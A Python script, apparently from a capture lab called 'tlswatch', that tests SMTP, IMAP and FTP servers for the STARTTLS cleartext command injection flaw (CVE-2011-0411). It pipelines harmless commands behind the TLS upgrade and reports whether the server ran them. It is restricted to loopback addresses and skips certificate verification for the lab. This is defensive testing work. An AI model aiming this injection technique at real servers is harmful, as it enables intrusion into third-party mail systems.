#!/usr/bin/env python3
"""tools/lab/inject-client.py - a raw client that pipelines a cleartext
command behind STARTTLS (the CVE-2011-0411 pattern), for the tlswatch
capture lab. Python 3 standard library only; loopback only.

  inject-client.py [--server 127.0.0.1] [--port 25] [--proto smtp|imap|ftp]
                   [--split] [--source ADDR] [--sni NAME]

SMTP: reads the greeting, then sends in ONE segment
    EHLO client.tlswatch.test\\r\\nSTARTTLS\\r\\nRSET\\r\\n
or, with --split, sends the EHLO, reads its reply, and sends STARTTLS\\r\\n
and RSET\\r\\n as two segments (TCP_NODELAY, two send() calls), the second one
before the server's reply to STARTTLS has been read.
IMAP: the same with "a STARTTLS" and "b NOOP" after reading the greeting.
FTP (RFC 4217): the same with AUTH TLS\\r\\nUSER x\\r\\n after reading the
greeting; inside TLS the client sends NOOP: when the first reply is the
answer to the injected USER (331) the server executed it. After the 234 the
FTP client waits 0.5 s: a server that answers the injected line in cleartext
(vsftpd's "500 OOPS") is then read up to its close or reset before any
ClientHello is sent, so the outcome does not depend on a race (exit status
4, no ClientHello).

A server that is not vulnerable throws the buffered cleartext away when it
starts TLS; a vulnerable one executes it as if it had come inside TLS. After
the go-ahead the client does the TLS handshake (SNI --sni, the lab's
self-signed certificate is not verified), sends EHLO / "c CAPABILITY" inside
TLS and reads the first reply: when it is the answer to the injected RSET
(250 2.0.0 Ok) / NOOP (b OK) / USER (331) the server executed the injected
command. Then QUIT / LOGOUT inside TLS.

Exit status: 0 the server discarded the injected command; 3 the server
executed it (vulnerable); 4 the TLS handshake failed (with --split: the
injected line reached the server after it had emptied its buffer and was
read as TLS, so the race went the other way: try again); 1 other errors.
"""
import argparse
import select
import socket
import ssl
import sys


def log(msg):
    print("inject-client: %s" % msg, file=sys.stderr, flush=True)


class LineReader:
    """Reads CRLF lines from a socket or an SSL socket."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""

    def line(self):
        while b"\n" not in self.buf:
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionError("connection closed by the server")
            self.buf += data
        line, _, self.buf = self.buf.partition(b"\n")
        log("<- %r" % (line + b"\n"))
        return line + b"\n"

    def smtp_reply(self):
        """The lines of one SMTP reply (multi-line: 250-... then 250 ...)."""
        lines = [self.line()]
        while len(lines[-1]) >= 4 and lines[-1][3:4] == b"-":
            lines.append(self.line())
        return lines

    def ftp_reply(self):
        """The lines of one FTP reply (multi-line: 211-... then 211 ...)."""
        lines = [self.line()]
        if lines[0][3:4] == b"-":
            code = lines[0][:3]
            while not (lines[-1].startswith(code) and lines[-1][3:4] == b" "):
                lines.append(self.line())
        return lines

    def imap_tagged(self, tag):
        """Untagged lines, then the tagged reply of tag."""
        lines = [self.line()]
        while not lines[-1].startswith(tag + b" "):
            lines.append(self.line())
        return lines


def send(sock, data):
    log("-> %r" % data)
    sock.sendall(data)


def tls_wrap(sock, sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(sock, server_hostname=sni)


def run_smtp(sock, args):
    rd = LineReader(sock)
    rd.smtp_reply()  # greeting
    ehlo = b"EHLO client.tlswatch.test\r\n"
    if args.split:
        send(sock, ehlo)
        rd.smtp_reply()
        send(sock, b"STARTTLS\r\n")
        send(sock, b"RSET\r\n")
    else:
        send(sock, ehlo + b"STARTTLS\r\nRSET\r\n")
        rd.smtp_reply()  # EHLO reply
    reply = rd.smtp_reply()
    if not reply[-1].startswith(b"220"):
        if reply[-1].startswith(b"250"):
            log("the server answered the injected RSET in cleartext")
        log("no go-ahead for STARTTLS: %r" % reply[-1])
        return 1
    if rd.buf:
        log("cleartext after the go-ahead: %r" % rd.buf)
    try:
        tls = tls_wrap(sock, args.sni)
    except (ssl.SSLError, OSError) as err:
        log("TLS handshake failed: %s" % err)
        return 4
    log("TLS up: %s %s" % (tls.version(), tls.cipher()[0]))
    trd = LineReader(tls)
    send(tls, ehlo)
    first = trd.smtp_reply()
    vulnerable = first[0].startswith(b"250 2.0.0")
    if vulnerable:
        log("VULNERABLE: the injected RSET was executed inside TLS")
        trd.smtp_reply()  # the real EHLO reply
    else:
        log("not vulnerable: the injected RSET was discarded")
    send(tls, b"QUIT\r\n")
    trd.smtp_reply()
    tls.close()
    return 3 if vulnerable else 0


def run_imap(sock, args):
    rd = LineReader(sock)
    rd.line()  # greeting
    if args.split:
        send(sock, b"a STARTTLS\r\n")
        send(sock, b"b NOOP\r\n")
    else:
        send(sock, b"a STARTTLS\r\nb NOOP\r\n")
    reply = rd.imap_tagged(b"a")
    if not reply[-1][2:4].upper() == b"OK":
        log("no go-ahead for STARTTLS: %r" % reply[-1])
        return 1
    if rd.buf:
        log("cleartext after the go-ahead: %r" % rd.buf)
    try:
        tls = tls_wrap(sock, args.sni)
    except (ssl.SSLError, OSError) as err:
        log("TLS handshake failed: %s" % err)
        return 4
    log("TLS up: %s %s" % (tls.version(), tls.cipher()[0]))
    trd = LineReader(tls)
    send(tls, b"c CAPABILITY\r\n")
    first = trd.line()
    vulnerable = first.startswith(b"b ")
    if vulnerable:
        log("VULNERABLE: the injected NOOP was executed inside TLS")
    else:
        log("not vulnerable: the injected NOOP was discarded")
    trd.imap_tagged(b"c") if not first.startswith(b"c ") else None
    send(tls, b"d LOGOUT\r\n")
    trd.imap_tagged(b"d")
    tls.close()
    return 3 if vulnerable else 0


def run_ftp(sock, args):
    rd = LineReader(sock)
    rd.ftp_reply()  # greeting
    if args.split:
        send(sock, b"AUTH TLS\r\n")
        send(sock, b"USER x\r\n")
    else:
        send(sock, b"AUTH TLS\r\nUSER x\r\n")
    reply = rd.ftp_reply()
    if not reply[-1].startswith(b"234"):
        log("no go-ahead for AUTH TLS: %r" % reply[-1])
        return 1
    late = rd.buf
    ready, _, _ = select.select([sock], [], [], 0.5)
    if ready:
        # Whatever the server says now, up to its close or reset.
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    log("the server closed the connection")
                    break
                late += data
        except OSError as err:
            log("the connection is gone: %s" % err)
    if late:
        log("cleartext after the go-ahead: %r" % late)
    if ready or late:
        log("TLS handshake failed: the server answered in cleartext or closed; no ClientHello sent")
        return 4
    try:
        tls = tls_wrap(sock, args.sni)
    except (ssl.SSLError, OSError) as err:
        log("TLS handshake failed: %s" % err)
        return 4
    log("TLS up: %s %s" % (tls.version(), tls.cipher()[0]))
    trd = LineReader(tls)
    send(tls, b"NOOP\r\n")
    first = trd.ftp_reply()
    vulnerable = first[-1].startswith(b"331")
    if vulnerable:
        log("VULNERABLE: the injected USER was executed inside TLS")
        trd.ftp_reply()  # the NOOP reply
    else:
        log("not vulnerable: the injected USER was discarded")
    send(tls, b"QUIT\r\n")
    trd.ftp_reply()
    tls.close()
    return 3 if vulnerable else 0


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--server", default="127.0.0.1")
    parser.add_argument("--port", type=int)
    parser.add_argument("--proto", choices=["smtp", "imap", "ftp"], default="smtp")
    parser.add_argument("--split", action="store_true",
                        help="send the injected command in its own segment")
    parser.add_argument("--source", help="local address to connect from")
    parser.add_argument("--sni", default="mail.tlswatch.test")
    args = parser.parse_args()
    for addr in (args.server, args.source):
        if addr is not None and not addr.startswith("127."):
            parser.error("loopback (127.0.0.0/8) only: %s" % addr)
    port = args.port or {"smtp": 25, "imap": 143, "ftp": 21}[args.proto]
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if args.source:
        sock.bind((args.source, 0))
    sock.settimeout(20)
    sock.connect((args.server, port))
    try:
        if args.proto == "smtp":
            return run_smtp(sock, args)
        if args.proto == "ftp":
            return run_ftp(sock, args)
        return run_imap(sock, args)
    except (ConnectionError, socket.timeout, ssl.SSLError) as err:
        log("error: %s" % err)
        return 1
    finally:
        sock.close()


if __name__ == "__main__":
    sys.exit(main())
